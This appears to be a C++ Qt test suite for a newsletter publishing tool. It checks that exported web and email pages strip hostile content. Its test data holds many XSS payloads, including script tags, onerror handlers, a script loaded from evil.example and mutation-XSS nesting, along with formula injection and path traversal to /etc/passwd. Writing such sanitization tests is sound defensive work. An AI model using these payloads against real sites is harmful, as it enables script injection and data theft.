// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/layout/testissue.h"
#include "export/publisher.h"
#include "issue/issueloader.h"
#include "issue/newsletterimport.h"
#include "text/links.h"
#include "text/textimport.h"
#include "translation/exchangereview.h"
#include "translation/xliffreader.h"
#include "translation/xliffwriter.h"

#include <QDirIterator>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <gumbo.h>

using namespace quarterly;
using namespace Qt::StringLiterals;

namespace {

Language english() { return testissue::language("en"); }
Language french() { return testissue::language("fr"); }

const QString allowedLink = u"https://www.example.org/allowed"_s; // the only address that anybody entered as a link

// What does not belong on a page of ours, wherever it comes from.
class Inspector
{
public:
    // A message is set with tables, styles at each element and pictures that it brings along.
    explicit Inspector(QString page) : m_page(std::move(page)), m_isMessage(m_page.contains(u"email"_s)) {}

    QStringList inspect(const QByteArray &html)
    {
        GumboOutput *output = gumbo_parse_with_options(&kGumboDefaultOptions, html.constData(), size_t(html.size()));
        visit(output->document);
        gumbo_destroy_output(&kGumboDefaultOptions, output);
        return m_complaints;
    }

    QString text() const { return m_text; }

private:
    void visit(const GumboNode *node)
    {
        if (node->type == GUMBO_NODE_TEXT || node->type == GUMBO_NODE_WHITESPACE)
            m_text += QString::fromUtf8(node->v.text.text);
        if (node->type != GUMBO_NODE_ELEMENT && node->type != GUMBO_NODE_DOCUMENT)
            return;
        if (node->type == GUMBO_NODE_ELEMENT)
            inspectElement(node->v.element);
        const GumboVector &children = node->type == GUMBO_NODE_DOCUMENT ? node->v.document.children : node->v.element.children;
        for (unsigned int i = 0; i < children.length; ++i)
            visit(static_cast<const GumboNode *>(children.data[i]));
    }

    void inspectElement(const GumboElement &element)
    {
        static const QSet<QString> known = {
            u"html"_s, u"head"_s, u"meta"_s, u"title"_s, u"link"_s, u"style"_s, u"script"_s, u"body"_s, u"header"_s, u"nav"_s,
            u"main"_s, u"section"_s, u"article"_s, u"footer"_s, u"address"_s, u"div"_s, u"span"_s, u"h1"_s, u"h2"_s, u"h3"_s,
            u"h4"_s, u"p"_s, u"ul"_s, u"ol"_s, u"li"_s, u"a"_s, u"img"_s, u"figure"_s, u"figcaption"_s, u"blockquote"_s,
            u"strong"_s, u"em"_s, u"sup"_s, u"br"_s, u"time"_s};
        const QString name = QString::fromLatin1(gumbo_normalized_tagname(element.tag));
        static const QSet<QString> inMessages = {u"table"_s, u"tbody"_s, u"tr"_s, u"td"_s, u"center"_s};
        if (!known.contains(name) && !(m_isMessage && inMessages.contains(name)))
            complain(u"element "_s + name);
        for (unsigned int i = 0; i < element.attributes.length; ++i) {
            const auto attribute = static_cast<const GumboAttribute *>(element.attributes.data[i]);
            inspectAttribute(name, QString::fromUtf8(attribute->name), QString::fromUtf8(attribute->value));
        }
        const GumboAttribute *type = gumbo_get_attribute(&element.attributes, "type");
        if (name == u"script"_s && (!type || type->value != QByteArray("application/ld+json")))
            complain(u"a script"_s);
    }

    void inspectAttribute(const QString &element, const QString &name, const QString &value)
    {
        if (name.startsWith(u"on"_s) || (name == u"style"_s && !m_isMessage) || name == u"srcdoc"_s || name == u"formaction"_s)
            complain(u"attribute "_s + name);
        if (element == u"meta"_s && name == u"http-equiv"_s && value != u"Content-Security-Policy"_s && value != u"Content-Type"_s)
            complain(u"meta "_s + value);
        static const QStringList addresses = {u"href"_s, u"src"_s, u"action"_s, u"data"_s, u"poster"_s, u"background"_s};
        if (!addresses.contains(name))
            return;
        const bool within = m_isMessage ? value.startsWith(u"cid:"_s) || value.startsWith(u'#') : !value.contains(u':') && !value.startsWith(u"//"_s);
        const bool profile = value == u"https://www.example.org/alba"_s || value.section(u'?', 0, 0) == u"mailto:office@example.org"_s;
        // Where the profile says that the pages will be: machines are told, and a message takes its pictures from there.
        const bool online = value.startsWith(u"https://www.example.org/alba/newsletter/"_s);
        if (online && (element != u"img"_s || m_isMessage))
            return;
        if (!within && !(element == u"a"_s && (profile || value == allowedLink)))
            complain(u"%1 %2=%3"_s.arg(element, name, value));
    }

    void complain(const QString &what) { m_complaints << m_page + u": "_s + what; }

    QString m_page;
    bool m_isMessage;
    QString m_text;
    QStringList m_complaints;
};

// A library with one issue that is about to be filled with mischief.
class Desk
{
public:
    Desk() : library(*Library::create(folder.filePath(u"desk.quarterly"_s))), editor(*library)
    {
        issue = *editor.createIssue(*Quarter::create(2019, 2), english());
        section = *editor.addSection(issue, SectionKind::Other, {{english(), u"Other"_s}});
        Profile profile = testissue::profile();
        profile.id = *editor.ensureProfile(english());
        must(editor.setProfile(profile));
    }

    static void must(const Result<void> &done)
    {
        if (!done)
            qFatal("%s", qPrintable(done.error().message));
    }

    ItemId addItem(const QString &title)
    {
        const ItemId item = *editor.createItem(ItemKind::News, english());
        must(editor.setPlainText({item.uuid(), field::title, english()}, english(), title));
        if (!editor.placeItems({item}, section))
            qFatal("not placed");
        return item;
    }

    void setBody(ItemId item, const StoryText &story) { must(editor.setText({item.uuid(), field::body, english()}, english(), story)); }

    // All that is exported, read as a browser reads it: what is wrong with it, and the words on the pages.
    QStringList inspect()
    {
        words.clear();
        const auto whole = loadIssue(*library, issue);
        const QString out = folder.filePath(u"out"_s);
        const auto files = publish(*whole, {.outputs = outputs(whole->languages(), {Format::Web, Format::Email}), .folder = out, .allowMissing = true});
        if (!files)
            return {files.error().message};
        QStringList complaints;
        QDirIterator each(out, QDir::Files, QDirIterator::Subdirectories);
        while (each.hasNext()) {
            const QString path = each.next(), name = QDir(out).relativeFilePath(path);
            for (const QChar character : name) {
                if (!character.isLetterOrNumber() && !u"-._/"_s.contains(character))
                    complaints << u"file name "_s + name;
            }
            QFile file(path);
            if (!file.open(QIODevice::ReadOnly))
                complaints << path;
            if (path.endsWith(u".html"_s))
                complaints << inspectPage(name, file.readAll());
            if (path.endsWith(u".xml"_s))
                complaints << inspectFeed(name, file);
        }
        return complaints;
    }

    QTemporaryDir folder;
    std::unique_ptr<Library> library;
    IssueEditor editor;
    IssueId issue;
    SectionId section;
    QString words;

private:
    QStringList inspectPage(const QString &name, const QByteArray &html)
    {
        Inspector inspector(name);
        const QStringList complaints = inspector.inspect(html);
        words += inspector.text() + u'\n';
        return complaints;
    }

    QStringList inspectFeed(const QString &name, QFile &file)
    {
        QStringList complaints;
        QXmlStreamReader xml(&file);
        while (!xml.atEnd()) {
            if (xml.readNextStartElement() && xml.name() == u"content"_s)
                complaints << Inspector(name).inspect(xml.readElementText().toUtf8());
        }
        return xml.hasError() && xml.error() != QXmlStreamReader::PrematureEndOfDocumentError ? complaints << name + u": "_s + xml.errorString() : complaints;
    }
};

QStringList mischief()
{
    return {u"<script>alert(1)</script>"_s,
            u"\"><img src=x onerror=alert(2)>"_s,
            u"' onmouseover='alert(3)"_s,
            u"</title><script>alert(4)</script>"_s,
            u"</style></script><script src=//evil.example/x.js></script>"_s,
            u"<!-- --!> --> ]]> <![CDATA[ <?php ?>"_s,
            u"&lt;b&gt; &amp; &#60;b&#62; &unknown;"_s,
            u"javascript:alert(5) data:text/html,<b>x</b> vbscript:x"_s,
            u"{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"_s,
            u"<iframe srcdoc='<script>alert(6)</script>'></iframe>"_s,
            u"<form action=https://evil.example><input name=q></form>"_s,
            u"<svg/onload=alert(7)> <math><mtext></p><style><img src=x>"_s,
            u"=HYPERLINK(\"https:\u200B//evil.example\") @SUM(1)"_s,
            u"\u202Eevil\u202C \u2066x\u2069 a\u0301\u0323 \U0001F9E8"_s,
            u"../../../../etc/passwd C:\\Windows CON.txt"_s,
            u"\\\"}]};alert(8);//"_s};
}

} // namespace

class TestHostile : public QObject
{
    Q_OBJECT

private slots:
    void whatIsTyped_isReadAsTyped_data();
    void whatIsTyped_isReadAsTyped();
    void whatIsPasted_bringsNothingWithIt_data();
    void whatIsPasted_bringsNothingWithIt();
    void markdown_bringsNothingWithIt();
    void link_isKeptOnlyIfItMayBe_data();
    void link_isKeptOnlyIfItMayBe();
    void translationFile_bringsNothingWithIt();
    void pictureName_isNotTrusted();
    void inspector_canFail();
};

void TestHostile::whatIsTyped_isReadAsTyped_data()
{
    QTest::addColumn<QString>("words");
    for (const QString &words : mischief())
        QTest::addRow("%s", qPrintable(words.left(24))) << words;
}

// In every field that there is.
void TestHostile::whatIsTyped_isReadAsTyped()
{
    QFETCH(const QString, words);
    Desk desk;
    const ItemId item = desk.addItem(words);
    desk.setBody(item, StoryText{{Block{.id = BlockId::create(), .runs = plainRuns(words)}}});
    Desk::must(desk.editor.setEvents(item, {{.when = Period::day(QDate(2019, 5, 1)), .places = {{english(), words}}}}));
    const Picture picture = testissue::picture({200, 100}, {});
    const ImageFile file{{QString::fromLatin1(picture.hash.toHex()), u"jpeg"_s, 200, 100}, picture.data};
    const auto pictures = desk.editor.setPictures(item, {{.file = file, .credit = words}});
    QVERIFY(pictures);
    for (const QString &name : {field::alt, field::caption})
        Desk::must(desk.editor.setPlainText({pictures->first().uuid(), name, english()}, english(), words));
    for (const QString &name : {field::masthead, field::tagline})
        Desk::must(desk.editor.setPlainText({desk.issue.uuid(), name, english()}, english(), words));
    Desk::must(desk.editor.setPlainText({desk.section.uuid(), field::title, english()}, english(), words));
    const OwnerId profile = *desk.editor.ensureProfile(english());
    for (const QString &name : {field::organisation, field::body, field::address})
        Desk::must(desk.editor.setPlainText({profile, name, english()}, english(), words));
    Desk::must(desk.editor.setTags(item, {words}, english()));

    const QStringList complaints = desk.inspect();
    QVERIFY2(complaints.isEmpty(), qPrintable(complaints.join(u'\n')));
    QVERIFY2(desk.words.simplified().count(words.simplified()) >= 10, qPrintable(desk.words));
}

void TestHostile::whatIsPasted_bringsNothingWithIt_data()
{
    QTest::addColumn<QString>("html");
    QTest::newRow("script") << u"<p>good<script>alert(1)</script></p>"_s;
    QTest::newRow("handler") << u"<p onclick='alert(1)'>good <b onmouseover=alert(2)>x</b></p>"_s;
    QTest::newRow("frame") << u"<p>good</p><iframe src='https://evil.example'></iframe><object data=x></object><embed src=y>"_s;
    QTest::newRow("form") << u"<form action='https://evil.example'><p>good</p><input><button>Go</button></form>"_s;
    QTest::newRow("remote picture") << u"<p>good</p><img src='https://evil.example/count.gif' alt='x'><picture><source srcset=//evil.example/y></picture>"_s;
    QTest::newRow("style") << u"<p style='background:url(https://evil.example/z)'>good</p><style>@import '//evil.example/x.css';</style>"_s;
    QTest::newRow("base and refresh") << u"<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'><p>good <a href='page'>x</a></p>"_s;
    QTest::newRow("drawing") << u"<svg onload=alert(1)><a xlink:href='javascript:alert(2)'><text>x</text></a></svg><p>good</p>"_s;
    QTest::newRow("nesting that mutates") << u"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></table></mtext></math><p>good</p>"_s;
    QTest::newRow("template") << u"<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><p>good</p>"_s;
    QTest::newRow("unclosed") << u"<p>good <a href=\"https://www.example.org/allowed"_s;
}

void TestHostile::whatIsPasted_bringsNothingWithIt()
{
    QFETCH(const QString, html);
    const auto blocks = blocksFromHtml(html);
    QVERIFY(blocks);
    Desk desk;
    desk.setBody(desk.addItem(u"Pasted"_s), withLinks(storyFromBlocks(*blocks)));
    const QStringList complaints = desk.inspect();
    QVERIFY2(complaints.isEmpty(), qPrintable(complaints.join(u'\n')));
    QVERIFY(desk.words.contains(u"good"_s));
}

void TestHostile::markdown_bringsNothingWithIt()
{
    const auto blocks = blocksFromMarkdown(u"good <script>alert(1)</script> [x](javascript:alert(2)) ![y](https://evil.example/z.png)\n\n"
                                           "<img src=x onerror=alert(3)>\n\n[z]: data:text/html,x\n\n[ref][z] <javascript:alert(4)>\n"_s);
    QVERIFY(blocks);
    Desk desk;
    desk.setBody(desk.addItem(u"Written elsewhere"_s), storyFromBlocks(*blocks));
    const QStringList complaints = desk.inspect();
    QVERIFY2(complaints.isEmpty(), qPrintable(complaints.join(u'\n')));
    QVERIFY(desk.words.contains(u"good"_s));
}

void TestHostile::link_isKeptOnlyIfItMayBe_data()
{
    QTest::addColumn<QString>("address");
    for (const char *address : {"javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                "vbscript:x", "file:///etc/passwd", "//evil.example", "https://user:secret@evil.example", "https:evil.example",
                                "view-source:https://x.example", "blob:https://x.example/1", "smb://x/y", "\\\\evil\\share", "https://"})
        QTest::addRow("%s", address) << QString::fromUtf8(address);
}

void TestHostile::link_isKeptOnlyIfItMayBe()
{
    QFETCH(const QString, address);
    Desk desk;
    const ItemId item = desk.addItem(u"A link"_s);
    const QString html = u"<p>good <a href=\"%1\">link</a> <a href=\"%2\">sound</a></p>"_s.arg(address.toHtmlEscaped(), allowedLink);
    desk.setBody(item, storyFromBlocks(*blocksFromHtml(html)));
    Profile profile = loadProfile(*desk.library);
    profile.web = address;
    const auto kept = desk.editor.setProfile(profile); // refused or not: it may not come out
    Q_UNUSED(kept)
    const QStringList complaints = desk.inspect();
    QVERIFY2(complaints.isEmpty(), qPrintable(complaints.join(u'\n')));
    QVERIFY(desk.words.contains(u"link"_s));
}

void TestHostile::translationFile_bringsNothingWithIt()
{
    Desk desk;
    const ItemId item = desk.addItem(u"Title"_s);
    desk.setBody(item, StoryText{{Block{.id = BlockId::create(), .runs = plainRuns(u"Body"_s)}}});
    Desk::must(desk.editor.setPlainText({item.uuid(), field::title, english()}, french(), u"TITRE"_s));
    const auto whole = loadIssue(*desk.library, desk.issue);
    const auto xliff = toXliff(*whole, french(), segments(*whole, french()), XliffVersion::V12);
    QVERIFY(xliff);
    for (const QString &words : mischief()) {
        QByteArray changed = *xliff;
        changed.replace("TITRE", words.toHtmlEscaped().toUtf8());
        const auto read = readXliff(changed, u"back.xlf"_s);
        QVERIFY2(read, read ? "" : qPrintable(read.error().message));
        const auto now = loadIssue(*desk.library, desk.issue);
        QVERIFY(takeExchange(desk.editor, reviewExchange(*read, segments(*now, french())), {.everything = true}));
        const QStringList complaints = desk.inspect();
        QVERIFY2(complaints.isEmpty(), qPrintable(complaints.join(u'\n')));
        QVERIFY2(desk.words.simplified().contains(words.simplified()), qPrintable(words));
    }
}

// Neither in a page nor on the disk.
void TestHostile::pictureName_isNotTrusted()
{
    Desk desk;
    const QString name = u"\"><img src=x onerror=alert(1)>.jpg"_s;
    const Picture picture = testissue::picture({120, 90}, {});
    const auto put = [&](const QString &file, const QByteArray &bytes) {
        QFile made(desk.folder.filePath(file));
        QVERIFY(made.open(QIODevice::WriteOnly) && made.write(bytes) == bytes.size());
    };
    put(name, picture.data);
    const QByteArray document = "<h1>A title</h1><p>good</p><img src=\"" + name.toHtmlEscaped().toUtf8() + "\" alt=\"x\"><p>"
                                "<img src=\"../../../etc/passwd\" alt=\"y\"><img src=\"file:///etc/hostname\" alt=\"z\"></p>";
    put(u"item.html"_s, document);
    const auto imported = importDocument(desk.editor, desk.folder.filePath(u"item.html"_s), english());
    QVERIFY2(imported, imported ? "" : qPrintable(imported.error().message));
    QCOMPARE(imported->items.size(), 1);
    QVERIFY(desk.editor.placeItems(imported->items, desk.section));
    const QStringList complaints = desk.inspect();
    QVERIFY2(complaints.isEmpty(), qPrintable(complaints.join(u'\n')));
    QVERIFY(desk.words.contains(u"good"_s));
}

void TestHostile::inspector_canFail()
{
    for (const char *html : {"<script>alert(1)</script>", "<p onclick=x>", "<iframe>", "<a href='javascript:x'>", "<img src='https://evil.example/x'>",
                             "<form>", "<meta http-equiv=refresh content=0>", "<p style='x'>", "<a href='https://evil.example'>", "<link href='//x'>"})
        QVERIFY2(!Inspector(u"page"_s).inspect(html).isEmpty(), html);
}

QTEST_GUILESS_MAIN(TestHostile)
#include "tst_hostile.moc"
